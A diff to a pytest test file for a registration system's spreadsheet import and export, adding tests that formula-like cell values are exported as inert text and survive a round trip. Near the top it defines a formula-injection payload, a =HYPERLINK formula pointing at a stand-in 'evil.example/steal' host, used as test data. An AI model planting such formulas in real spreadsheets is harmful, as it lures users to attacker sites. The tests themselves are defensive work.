@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import shutil
 import subprocess
@@ -14,12 +15,18 @@ from typer.testing import CliRunner
 
 from podium.cli import app
 from podium.errors import PodiumError
-from podium.registration.imports import registrations_export, registrations_import
+from podium.registration.imports import (
+    edition_vocabulary,
+    registrations_export,
+    registrations_import,
+)
 from podium.registration.models import Enterprise, Member, Project, ProjectStatus, Team
-from podium.rules.registration_rows import RegistrationFileError
+from podium.registration.spreadsheets import open_rows
+from podium.rules.registration_rows import RegistrationFileError, registrations_from_rows
 from tests.registration.support import GOOD_ROWS, filled_template
 
 pytestmark = pytest.mark.django_db
+ATTACK = '=HYPERLINK("http://evil.example/steal","点击查看")'
 
 
 def counts() -> tuple[int, int, int, int]:
@@ -366,3 +373,65 @@ def test_import_page_shows_every_problem_with_status_400(client_as, users, editi
         (2, "成员1邮箱"),
     ]
     assert counts() == before
+
+
+def formula_rows() -> list[list]:
+    """GOOD_ROWS with a title, team name, enterprise and member that are formulas."""
+    first = list(GOOD_ROWS[0])
+    first[0], first[1], first[7], first[12] = "=1+2", ATTACK, "@SUM(1)", "-张三"
+    return [first, GOOD_ROWS[1]]
+
+
+def exported_row(data: bytes, team: str) -> tuple:
+    sheet = load_workbook(io.BytesIO(data))["报名表"]
+    return next(row for row in sheet.iter_rows() if row[0].value == team)
+
+
+def assert_inert(row: tuple) -> None:
+    assert [(row[i].value, row[i].data_type) for i in (0, 1, 7, 12)] == [
+        ("'=1+2", "s"),
+        ("'" + ATTACK, "s"),
+        ("'@SUM(1)", "s"),
+        ("'-张三", "s"),
+    ]
+    assert [(row[i].value, row[i].data_type) for i in (9, 10)] == [(3, "n"), (5, "n")]
+
+
+def test_export_page_writes_formula_text_as_text(client_as, users, edition):
+    run_import(edition, filled_template(edition, formula_rows()))
+
+    response = client_as(users["organiser"]).get(reverse("registration:export"))
+
+    assert_inert(exported_row(response.content, "'=1+2"))
+
+
+def test_cli_export_writes_formula_text_as_text(edition, tmp_path):
+    run_import(edition, filled_template(edition, formula_rows()))
+    out = tmp_path / "e.xlsx"
+
+    exported = CliRunner().invoke(app, ["export", "registrations", "--out", str(out)])
+
+    assert exported.exit_code == 0
+    assert_inert(exported_row(out.read_bytes(), "'=1+2"))
+
+
+def test_export_then_import_gives_the_formula_text_back(edition, users):
+    run_import(edition, filled_template(edition, formula_rows()))
+    data = registrations_export(actor=users["organiser"], edition=edition)
+    # Its two rows read back as an import would, in an edition where neither is taken yet.
+    fresh = dataclasses.replace(
+        edition_vocabulary(edition), taken_teams=frozenset(), taken_emails=frozenset()
+    )
+
+    with open_rows(io.BytesIO(data), "e.xlsx") as source:
+        ours = ((n, cells) for n, cells in source.rows if cells[0] in ("'=1+2", "青禾数科团队"))
+        rows = registrations_from_rows(source.header, ours, fresh, source="e.xlsx")
+
+    again = next(r for r in rows if r.team == "=1+2")
+    assert (again.title, again.lead_enterprise, again.members[0].name) == (
+        ATTACK,
+        "@SUM(1)",
+        "-张三",
+    )
+    assert [r.team for r in rows] == ["=1+2", "青禾数科团队"]
+
